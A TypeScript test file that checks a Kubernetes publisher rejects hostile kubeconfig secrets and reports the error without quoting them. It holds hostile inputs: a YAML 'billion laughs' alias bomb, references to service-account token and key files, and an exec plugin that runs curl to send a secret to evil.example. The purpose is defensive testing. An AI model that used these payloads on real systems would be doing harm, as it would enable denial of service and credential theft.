import { afterEach, describe, expect, it } from 'vitest';
import { stringify } from 'yaml';
import { createPublisherFactory } from '../../lib/adapters/kubernetes/publisher-factory';
import { pushAll } from '../../lib/app/push/push-all';
import { testCertificate } from '../support/fake-kube/certs';
import { rec } from './fixtures';
import { harness, type Harness } from './harness';

/** Kubeconfig secrets are untrusted input: each hostile one fails its own cluster, with a message that quotes nothing from it. */
const SECRET = 'hunter2-SECRET-VALUE-a8f3c1';
const settings = { parallelism: 4, leaseSeconds: 330, timeMarginMs: 60_000 };

function kubeconfig(server: string, user: Record<string, unknown>, cluster: Record<string, unknown> = {}): string {
  return stringify({
    apiVersion: 'v1',
    clusters: [{ name: 'c', cluster: { server, 'certificate-authority-data': Buffer.from(testCertificate().cert).toString('base64'), ...cluster } }],
    users: [{ name: 'u', user }],
    contexts: [{ name: 'x', context: { cluster: 'c', user: 'u' } }],
    'current-context': 'x',
  });
}

/** The classic "billion laughs": a few hundred bytes that expand to gigabytes when aliases are followed. */
function aliasBomb(server: string): string {
  const lines = [`a: &a ["${SECRET}","${SECRET}","${SECRET}","${SECRET}","${SECRET}","${SECRET}","${SECRET}","${SECRET}","${SECRET}"]`];
  for (let i = 1; i < 10; i++)
    lines.push(
      `${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9)
        .fill(`*${String.fromCharCode(96 + i)}`)
        .join(',')}]`,
    );
  return `${kubeconfig(server, { token: SECRET })}\n${lines.join('\n')}\n`;
}

describe('hostile kubeconfig secrets', () => {
  let h: Harness;
  afterEach(() => h.close());

  it('each fails only its own cluster with a clear message that holds no secret', async () => {
    h = await harness();
    const url = h.fake.url;
    const hostile: Record<string, [string, RegExp]> = {
      bomb: [aliasBomb(url), /uses YAML aliases, which are not accepted/],
      huge: [kubeconfig(url, { token: SECRET }) + `# ${'x'.repeat(1024 * 1024)}\n`, /is larger than 1048576 bytes/],
      numeric: [kubeconfig(url, { token: 12345678901234 }), /is invalid: users\[0\]\.user\.token must be a string/],
      tokenfile: [
        kubeconfig(url, { 'token-file': '/var/run/secrets/kubernetes.io/serviceaccount/token' }),
        /refers to files \(token-file\); a stored kubeconfig must carry its data inline/,
      ],
      keyfile: [kubeconfig(url, { 'client-certificate': '/etc/cert.pem', 'client-key': '/etc/key.pem' }), /refers to files \(client-certificate, client-key\)/],
      exec: [kubeconfig(url, { exec: { command: 'curl', args: ['-d', SECRET, 'https://evil.example'] } }), /exec plugin with a command other than aws eks get-token/],
      plain: [kubeconfig(url.replace('https:', 'http:'), { token: SECRET }), /points at plain http; use https/],
      broken: [`users: [ {token: ${SECRET}`, /cannot be parsed$/],
    };
    await h.cluster('healthy');
    await h.recommend('healthy', rec('shop'));
    for (const [id, [text]] of Object.entries(hostile)) {
      await h.cluster(id);
      h.secrets.values.set(`kc/${id}`, text);
      await h.recommend(id, rec('shop'));
    }
    // As deployed: no local targets, no plain http.
    const publishers = createPublisherFactory({ secrets: h.secrets, clock: h.clock, timeoutMs: 5_000, secretCacheSeconds: 0, localTargets: false });
    const results = await pushAll({ ...h.deps, publishers }, { force: true, owner: 'run-1', remainingMs: () => 300_000 }, settings);

    const byId = new Map(results.map((r) => [r.cluster, r]));
    expect(byId.get('healthy')?.outcome).toBe('pushed');
    for (const [id, [, message]] of Object.entries(hostile)) {
      const r = byId.get(id)!;
      expect(r.outcome, id).toBe('failed');
      expect(r.error, id).toMatch(new RegExp(`^the kubeconfig in secret kc/${id} `));
      expect(r.error, id).toMatch(message);
      expect(r.error, id).not.toContain(SECRET);
      expect(r.error, id).not.toContain('12345678901234');
    }
  });
});
